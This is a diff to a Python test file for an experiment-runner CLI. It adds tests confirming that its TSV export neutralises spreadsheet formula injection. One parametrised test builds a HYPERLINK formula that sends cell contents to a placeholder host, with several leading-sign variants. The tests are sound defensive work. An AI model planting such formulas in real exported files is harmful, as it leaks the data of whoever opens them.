@@ -18,6 +18,7 @@ from fakes import (
     timed_out,
 )
 
+from runner.characters import visible
 from runner.cli import cli
 from runner.decision import Direction, Metric
 from runner.errors import SandboxError
@@ -34,8 +35,7 @@ from runner.records import (
     TrialSpec,
     TrialStatus,
 )
-from runner.views import documents, lines, summary
-from runner.views.page import visible
+from runner.views import documents, export, lines, summary
 
 RANK = Metric(name="mean_rank", direction=Direction.MINIMIZE, round_to=0.5)
 RECALL = Metric(name="recall", direction=Direction.MAXIMIZE, round_to=0.001)
@@ -210,7 +210,8 @@ def test_every_status_has_a_label_and_a_count(status):
     ],
 )
 def test_a_gain_reads_as_the_metric_s_own_change(metric, gain, shown):
-    assert lines.delta(metric, gain) == shown
+    found = ended(ExperimentStatus.REVERTED, score=50.0, gain=gain)
+    assert lines.change(metric, found)[1] == shown
 
 
 @pytest.mark.parametrize(
@@ -302,3 +303,26 @@ def test_an_unfinished_experiment_is_said_to_be(tmp_path, monkeypatch):
     shown = CliRunner().invoke(cli, ["status"]).output
     assert "experiment 0 ends on resume" in shown
     assert "UNFINISHED" in CliRunner().invoke(cli, ["list", TAG]).output
+
+
+# -- a table that a spreadsheet opens ---------------------------------------------------------
+
+
+@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠"])  # noqa: RUF001
+def test_no_text_of_the_table_is_a_formula(sign):
+    hypothesis = f'{sign}HYPERLINK("http://example.org?"&A1)'
+    table = export.rows([ended(ExperimentStatus.KEPT, hypothesis=hypothesis, score=-1.5)], "loss")
+    [row] = csv.DictReader(export.tsv(table).splitlines(), delimiter="\t")
+    assert row["description"] == f"'{hypothesis.strip()}"
+    assert float(row["loss"]) == -1.5
+
+
+@pytest.mark.parametrize("hypothesis", ["raise x by -1", "a=b", "1 + 1", "wider @ 64", "'=1"])
+def test_other_text_stays_as_it_is(hypothesis):
+    table = export.rows([ended(ExperimentStatus.KEPT, hypothesis=hypothesis)], "loss")
+    [row] = csv.DictReader(export.tsv(table).splitlines(), delimiter="\t")
+    assert row["description"] == hypothesis
+
+
+def test_a_column_s_name_is_no_formula_either():
+    assert export.tsv([{"=1": 2.0}]).startswith("'=1\n2.0")
